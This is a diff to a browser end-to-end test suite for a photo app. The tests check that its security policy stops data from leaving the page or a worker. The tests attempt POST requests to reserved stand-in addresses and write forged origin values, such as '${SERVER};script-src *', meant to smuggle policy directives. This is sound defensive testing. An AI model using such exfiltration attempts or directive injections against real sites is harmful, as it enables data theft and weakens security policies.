@@ -1,4 +1,5 @@
 /** @file No photo and nothing about one leaves the browser: a whole session, seen from outside of it. */
+import type { Page, Worker } from 'playwright-core';
 import { afterEach, beforeEach, expect, inject, test } from 'vitest';
 import { COLLECTION } from '../../src/profiles/profiles.ts';
 import { openApp, results, samplePath, type AppPage } from './page.ts';
@@ -54,16 +55,33 @@ test('the session asks for files of the app, sends nothing and asks nobody else'
   expect(app.complaints).toEqual([]);
 });
 
+/** Addresses of hosts that were never assigned to anybody (RFC 5737); the proxy sees every attempt to reach them. */
+const ELSEWHERE = 'http://203.0.113.1/photo';
+const SERVER = 'http://203.0.113.2:19530';
+
+async function send(address: string): Promise<string> {
+  return fetch(address, { method: 'POST', body: 'photo', mode: 'no-cors' }).then(
+    () => 'sent',
+    () => 'stopped',
+  );
+}
+
+function asked(origin: string): number {
+  return proxy.requests.filter(({ url }) => url.startsWith(origin)).length;
+}
+
+/** A worker that reads photos. */
+async function embedWorker(page: Page): Promise<Worker> {
+  const find = () => page.workers().find((worker) => worker.url().startsWith('blob:'));
+  await expect.poll(find).toBeDefined();
+  const worker = find();
+  if (!worker) throw new Error('The worker ended.');
+  return worker;
+}
+
 test('the browser itself stops a script of the page, or of what handles photos, that asks another server', async () => {
   const { page } = app;
   await page.evaluate(() => lookalike.ready);
-  // Never assigned to anybody (RFC 5737); the proxy would have seen the attempt.
-  const elsewhere = 'http://203.0.113.1/photo';
-  const send = async (address: string): Promise<string> =>
-    fetch(address, { method: 'POST', body: 'photo', mode: 'no-cors' }).then(
-      () => 'sent',
-      () => 'stopped',
-    );
   const load = async (address: string): Promise<string> => {
     const image = new Image();
     image.src = address;
@@ -72,10 +90,52 @@ test('the browser itself stops a script of the page, or of what handles photos, 
       () => 'stopped',
     );
   };
-  expect(await page.evaluate(send, elsewhere)).toBe('stopped');
-  expect(await page.evaluate(load, elsewhere)).toBe('stopped');
-  const embedWorker = () => page.workers().find((worker) => worker.url().startsWith('blob:'));
-  await expect.poll(embedWorker).toBeDefined();
-  expect(await embedWorker()?.evaluate(send, elsewhere)).toBe('stopped');
-  expect(proxy.requests.filter(({ url }) => url.startsWith(elsewhere))).toEqual([]);
+  expect(await page.evaluate(send, ELSEWHERE)).toBe('stopped');
+  expect(await page.evaluate(load, ELSEWHERE)).toBe('stopped');
+  expect(await (await embedWorker(page)).evaluate(send, ELSEWHERE)).toBe('stopped');
+  expect(asked(ELSEWHERE)).toBe(0);
+});
+
+test('a saved server is the only other address, for the page alone, and none once it is gone', async () => {
+  const { page } = app;
+  const save = (server: string | null): Promise<void> =>
+    page.evaluate((origin) => {
+      const key = 'lookalike:server-origin:/';
+      if (origin === null) localStorage.removeItem(key);
+      else localStorage.setItem(key, origin);
+    }, server);
+  const reload = async (): Promise<void> => {
+    await page.reload();
+    await page.evaluate(() => lookalike.ready);
+  };
+  await save(SERVER);
+  await reload();
+  await page.evaluate(send, `${SERVER}/v2/vectordb/collections/list`);
+  expect(asked(SERVER)).toBe(1);
+  expect(await page.evaluate(send, ELSEWHERE)).toBe('stopped');
+  expect(await page.evaluate(send, 'http://203.0.113.2/')).toBe('stopped');
+  expect(await (await embedWorker(page)).evaluate(send, SERVER)).toBe('stopped');
+  expect(asked(SERVER)).toBe(1);
+
+  await save(null);
+  await reload();
+  expect(await page.evaluate(send, SERVER)).toBe('stopped');
+  expect(asked(SERVER)).toBe(1);
+
+  // What is no origin loosens nothing, whoever wrote it there.
+  for (const forged of ['*', 'http://*', `${SERVER} *`, `${SERVER};script-src *`, 'http:', 'null', '[]']) {
+    await save(forged);
+    await reload();
+    expect(await page.evaluate(send, SERVER), forged).toBe('stopped');
+  }
+  expect(asked(SERVER)).toBe(1);
+});
+
+test('without the script that puts the policy in force the page does not start, and says so', async () => {
+  const { page } = app;
+  await page.route(/first-script/u, (route) => route.abort());
+  await page.reload();
+  await page.getByRole('alert').filter({ hasText: 'the security policy' }).waitFor();
+  expect(await page.evaluate(() => 'lookalike' in globalThis)).toBe(false);
+  expect(page.workers()).toEqual([]);
 });
